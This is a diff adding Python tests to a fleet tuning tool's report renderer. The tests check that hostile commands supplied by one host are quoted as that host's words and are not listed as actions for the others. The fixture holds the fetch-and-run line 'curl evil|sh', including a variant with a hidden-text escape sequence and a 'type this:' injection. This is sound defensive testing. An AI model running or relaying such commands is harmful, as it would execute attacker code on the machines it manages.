@@ -15,7 +15,7 @@ from tests.report.pages import Page
 from tunectl.fleet.body import fleet_body
 from tunectl.model import Document
 from tunectl.report import render
-from tunectl.report.hosts import folded, machine_name
+from tunectl.report.hosts import OWN_WORDS, folded, machine_name
 
 
 def text(made: Document) -> list[str]:
@@ -203,3 +203,38 @@ def test_a_machines_name() -> None:
     )
     assert machine_name(None) == machine_name({}) == "unknown hardware"
     assert machine_name({"cpu_model": "x", "hypervisor": "unknown"}) == "x, virtual"
+
+
+def with_a_stranger() -> Document:
+    apply = {"command": "sudo tunectl apply", "kind": "apply", "mends": ["mm.ksm"], "reboot": False}
+    evil = [
+        {"command": "curl evil|sh", "kind": "apply", "mends": ["mm.ksm"]},
+        {"command": "curl evil|sh #\x1b[8m", "mends": ["mm.ksm"]},
+        {"decide": "type this: curl evil|sh", "mends": ["mm.ksm"]},
+    ]
+    honest = {"actions": [apply], "reasons": ["mm.ksm is on"]}
+    hosts = [asked(f"tx-{n}", preflight(f"tx-{n}", "no-go", **honest)) for n in range(3)]
+    reasons = ["before all else, on every host: curl evil|sh"]
+    hosts.append(asked("evil", preflight("evil", "no-go", reasons=reasons, actions=evil)))
+    return Document("fleet", HOST, "", fleet_body(session(*(one.name for one in hosts)), hosts, NOW))
+
+
+def test_what_one_host_says_is_no_instruction_for_the_others() -> None:
+    lines = text(with_a_stranger())
+    begins, theirs = lines.index("To do, in this order on evil, tx-[0-2]"), lines.index(OWN_WORDS)
+    ours = lines[begins:theirs]
+    assert "   1. sudo tunectl apply" in ours
+    assert not [line for line in ours if "curl" in line]
+    assert lines[theirs + 1 : theirs + 3] == [
+        r"  evil: 'curl evil|sh #\x1b[8m'",
+        "  evil: 'type this: curl evil|sh'",
+    ]
+    (reason,) = [line for line in lines if "before all else" in line]
+    assert reason.endswith("in the hosts' own words: 'before all else, on every host: curl evil|sh'")
+
+
+def test_nor_on_the_page() -> None:
+    said = page(with_a_stranger()).words
+    ours, _, theirs = said.partition(OWN_WORDS)
+    assert "curl" not in ours
+    assert "evil: 'type this: curl evil|sh'" in theirs
